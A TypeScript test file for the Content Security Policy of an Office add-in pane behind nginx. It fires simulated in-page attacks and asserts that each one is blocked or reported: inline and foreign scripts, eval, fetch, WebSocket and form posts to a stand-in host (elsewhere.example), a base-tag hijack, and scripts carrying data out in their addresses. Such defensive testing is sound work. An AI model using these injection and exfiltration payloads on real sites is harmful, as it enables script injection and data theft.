import { describeWithNginx, startNginx } from "../deploy/nginx";
import { DeployedPane } from "./deployed-pane";
import { type DeployedSite, startDeployedSite } from "./deployed-site";

const workbook = "compulsory-supervision-orders-2025-demonstration.xlsx";

/** What an attacker who has got something into the page would do: each with the violation that it must be. */
const attempts: readonly (readonly [what: string, violation: string, deed: () => void])[] = [
  ["a script in the page", "script-src-elem inline", () => { document.body.append(Object.assign(document.createElement("script"), { textContent: "window.planted = true" })); }],
  ["a script of another host", "script-src-elem https://elsewhere.example/a.js", () => { document.body.append(Object.assign(document.createElement("script"), { src: "https://elsewhere.example/a.js" })); }],
  ["another script of Microsoft's host", "script-src-elem https://appsforoffice.microsoft.com/lib/beta/hosted/office.js", () => { document.body.append(Object.assign(document.createElement("script"), { src: "https://appsforoffice.microsoft.com/lib/beta/hosted/office.js" })); }],
  ["what a click would run", "script-src-attr inline", () => { document.body.setAttribute("onclick", "window.planted = true"); document.body.click(); }],
  ["text that is run as a script, later", "script-src eval", () => { setTimeout("window.planted = true" as unknown as () => void, 0); }],
  ["a request to another host", "connect-src https://elsewhere.example/", () => { fetch("https://elsewhere.example/").catch(() => undefined); }],
  ["a request to its own host", "connect-src", () => { fetch("/taskpane.html").catch(() => undefined); }],
  ["a beacon to Microsoft's telemetry", "connect-src https://browser.pipe.aria.microsoft.com/", () => { navigator.sendBeacon("https://browser.pipe.aria.microsoft.com/", "x"); }],
  ["a socket", "connect-src wss://elsewhere.example/", () => { try { new WebSocket("wss://elsewhere.example/"); } catch { /* refused at once in some browsers */ } }],
  ["a picture of another host", "img-src https://elsewhere.example/a.png", () => { new Image().src = "https://elsewhere.example/a.png"; }],
  ["a style sheet in the page", "style-src-elem inline", () => { document.head.append(Object.assign(document.createElement("style"), { textContent: "body { background: url(https://elsewhere.example/b.png) }" })); }],
  ["a style in an attribute", "style-src-attr inline", () => { document.body.setAttribute("style", "color: red"); }],
  ["a frame", "frame-src https://elsewhere.example", () => { document.body.append(Object.assign(document.createElement("iframe"), { src: "https://elsewhere.example/" })); }],
  ["a form that is sent", "form-action", () => { const form = Object.assign(document.createElement("form"), { action: "https://elsewhere.example/", method: "post" }); document.body.append(form); form.submit(); }],
  ["another base for its addresses", "base-uri", () => { document.head.append(Object.assign(document.createElement("base"), { href: "https://elsewhere.example/" })); }],
];

describeWithNginx("the policy of the pane behind nginx", () => {
  let site: DeployedSite;

  beforeAll(async () => {
    site = await startDeployedSite();
  }, 600_000);
  afterAll(() => site.close());

  test("refuses whatever would run or load something, or send something away, and each is seen", async () => {
    const pane = await DeployedPane.open(site.browser, site.nginx.origin, { workbook });
    await pane.heading("Findings");
    const seen: [what: string, isSeen: boolean][] = [];
    for (const [what, violation, deed] of attempts) {
      const before = pane.faults.length;
      await pane.page.evaluate(deed);
      const isSeen = await pane.complains((fault) => fault.startsWith(`violation: ${violation}`), before);
      seen.push([what, isSeen]);
    }
    expect(seen).toEqual(attempts.map(([what]) => [what, true]));
    expect(await pane.page.evaluate(() => "planted" in window)).toBe(false);
    expect(pane.faults.filter((fault) => fault.startsWith("request:"))).toEqual([]);
    await pane.close();
  });

  test("what the policy does not refuse is seen all the same: the page being led elsewhere", async () => {
    const pane = await DeployedPane.open(site.browser, site.nginx.origin, { workbook });
    await pane.heading("Findings");
    expect(pane.faults).toEqual([]);
    await pane.page.evaluate(() => { location.href = "https://elsewhere.example/leaving"; });
    expect(await pane.complains((fault) => fault === "request: https://elsewhere.example/leaving")).toBe(true);
    await pane.close();
  });

  test("what the policy lets through is seen all the same: a script of one of the two folders, with data behind its address", async () => {
    const pane = await DeployedPane.open(site.browser, site.nginx.origin, { workbook });
    await pane.heading("Findings");
    expect(pane.faults).toEqual([]);
    const planted = [`${site.nginx.origin}/planted.js?leaving`, "https://appsforoffice.microsoft.com/lib/1/hosted/planted.js?leaving"];
    await pane.page.evaluate((addresses) => {
      for (const src of addresses) document.body.append(Object.assign(document.createElement("script"), { src }));
    }, planted);
    expect(await pane.complains((fault) => fault === `request: ${planted[1]}`)).toBe(true);
    expect(pane.requests.filter((address) => address.endsWith("?leaving"))).toEqual(planted);
    expect(pane.faults.filter((fault) => fault.startsWith("violation:"))).toEqual([]);
    await pane.close();
  });

  test("the hash of the empty style is needed: without it Fluent's style elements are refused, and that is seen", async () => {
    const strict = await startNginx({ root: site.folder, tamper: (text) => text.replace(/style-src '[^']*'/, "style-src 'none'") });
    const pane = await DeployedPane.open(site.browser, strict.origin, { workbook });
    expect(await pane.complains((fault) => fault.startsWith("violation: style-src-elem inline"))).toBe(true);
    await pane.close();
    await strict.close();
  });
});
